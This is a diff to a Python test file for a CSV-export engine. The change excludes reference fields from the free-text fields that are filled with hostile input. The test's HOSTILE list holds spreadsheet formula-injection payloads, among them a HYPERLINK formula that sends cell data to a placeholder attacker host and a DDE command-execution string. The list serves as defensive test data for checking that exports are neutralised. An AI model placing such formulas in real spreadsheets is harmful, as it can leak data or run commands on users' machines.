@@ -22,6 +22,7 @@ from engine.inert_csv import FORMULA_STARTS, QUOTE, as_written, inert
 from engine.loaders import load_intake
 from engine.loaders.template import example
 from engine.model import SECTIONS
+from engine.validate import REFERENCES
 from tests.conftest import write_yaml
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "=cmd|' /C calc'!A0", "+1", "-2",
@@ -36,11 +37,13 @@ def run(*args: object):
 
 
 def text_fields(section: str) -> list[str]:
-    """Free-text fields: text without an id pattern (an actuals period is text with a form of its own)."""
+    """Free-text fields: text that is neither an id (pattern) nor a reference to one (an actuals period is text
+    with a form of its own)."""
     fields = SECTIONS[section].model_fields
+    references = {field for where, field, *_ in REFERENCES if where == section}
     return [name for name, info in fields.items()
             if info.annotation in (str, str | None) and (section, name) != ("actuals", "period")
-            and not any(getattr(meta, "pattern", None) for meta in info.metadata)]
+            and name not in references and not any(getattr(meta, "pattern", None) for meta in info.metadata)]
 
 
 def hostile_intake() -> dict:
